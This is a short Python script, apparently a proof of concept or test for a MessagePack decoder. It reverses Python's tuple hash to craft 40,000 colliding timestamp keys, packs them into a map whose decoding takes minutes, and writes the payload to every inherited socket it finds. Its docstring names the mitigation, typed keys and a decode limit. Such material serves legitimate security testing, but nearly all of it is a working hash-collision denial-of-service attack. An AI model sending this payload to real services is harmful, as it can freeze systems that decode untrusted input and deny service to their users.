"""Sends a table while loading whose keys, all timestamps, have the same hash: decoding it takes minutes.

Holds: a message's keys are of types whose hashes cannot be chosen; decoding has a limit too.
"""

import os
import socket
import stat
import struct

COUNT = 40_000  # a million would take days
FIRST, SECOND, FIFTH = 11400714785074694791, 14029467366897019727, 2870177450012600261
WORD = 2**64


def seconds(nanoseconds):
    """The seconds with which hash((seconds, nanoseconds)) is what it is for (0, 0): tuples' hash, turned around."""
    start = ((FIFTH << 31 | FIFTH >> 33) % WORD * FIRST - nanoseconds * SECOND) % WORD
    start = start * pow(FIRST, -1, WORD) % WORD
    found = ((start >> 31 | start << 33) % WORD - FIFTH) * pow(SECOND, -1, WORD) % WORD
    return found - WORD if found >= WORD // 2 else found


keys = ((seconds(number), number) for number in range(COUNT * 4))
keys = [key for key in keys if abs(key[0]) < 2**61 - 1][:COUNT]
print("one hash:", len({hash(key) for key in keys}) == 1)
table = b"\xdf" + struct.pack(">I", len(keys))
table += b"".join(b"\xc7\x0c\xff" + struct.pack(">Iq", number, second) + b"\x00" for second, number in keys)
body = b"\x92" + table + b"\x90"

for fd in range(3, 64):
    try:
        is_socket = stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        continue
    if is_socket:
        with socket.socket(fileno=os.dup(fd)) as found:
            found.sendall(struct.pack("<QQ", len(body), 0) + body)
